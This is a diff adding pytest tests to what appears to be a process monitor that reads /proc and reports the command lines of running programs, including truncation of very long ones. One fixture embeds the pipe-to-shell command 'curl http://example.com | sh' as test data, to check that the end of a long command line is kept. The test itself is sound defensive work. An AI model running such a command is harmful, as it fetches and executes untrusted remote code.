@@ -107,3 +107,46 @@ def test_without_the_kernels_records_the_last_look_is_kept() -> None:
 
 def test_bytes_that_are_no_utf8_stay_readable() -> None:
     assert who.readable("/tmp/\udcff도면") == "/tmp/\\xff도면"
+
+
+def test_a_program_started_by_its_descriptor_is_not_taken_for_a_file_of_the_agents_own(table: Processes) -> None:
+    with Path("/bin/true").open("rb") as file:
+        table.forked(NOBODY_IS, 1, 1.0)
+        table.executed(NOBODY_IS, f"/dev/fd/{file.fileno()}", 2.0, None)
+        assert table.who(NOBODY_IS).image == f"/dev/fd/{file.fileno()}"
+
+
+def proc(folder: Path, command: bytes) -> Processes:
+    """One process, as /proc shows it."""
+    (folder / str(NOBODY_IS)).mkdir()
+    (folder / str(NOBODY_IS) / "cmdline").write_bytes(command)
+    (folder / str(NOBODY_IS) / "exe").symlink_to("/opt/tool")
+    (folder / str(NOBODY_IS) / "cwd").symlink_to("/")
+    (folder / str(NOBODY_IS) / "stat").write_text(f"{NOBODY_IS} (tool) S 1 " + "0 " * 20)
+    return Processes(folder)
+
+
+@pytest.mark.parametrize("size", [4096, 5000, 8000])
+def test_a_long_command_line_is_told_whole(tmp_path: Path, size: int) -> None:
+    command = b"tool\0" + b"x" * (size - 12) + b"\0needle\0"
+    table = proc(tmp_path, command)
+    told = table.executed(NOBODY_IS, "/opt/tool", 1.0, table.see(NOBODY_IS)).command_line
+    assert told == command.decode().rstrip("\0").replace("\0", " ")
+    known = table.find(NOBODY_IS)
+    assert known is not None
+    assert len(known.command_line) == who.LONGEST_COMMAND
+
+
+def test_of_a_command_line_beyond_measure_beginning_and_end_are_told(tmp_path: Path) -> None:
+    table = proc(tmp_path, b"tool\0" + b"x" * 1_000_000 + b"\0curl http://example.com | sh\0")
+    told = table.executed(NOBODY_IS, "/opt/tool", 1.0, table.see(NOBODY_IS)).command_line
+    assert told.startswith("tool xxxx")
+    assert told.endswith("xx curl http://example.com | sh")
+    assert "bytes…" in told
+    assert len(told) < 9000
+
+
+def test_a_program_that_a_thread_executes_keeps_its_parent(table: Processes) -> None:
+    table.forked(NOBODY_IS, 77, 1.0)
+    table.exited(NOBODY_IS)
+    assert table.executed(NOBODY_IS, "/opt/tool", 2.0, None).parent == 77
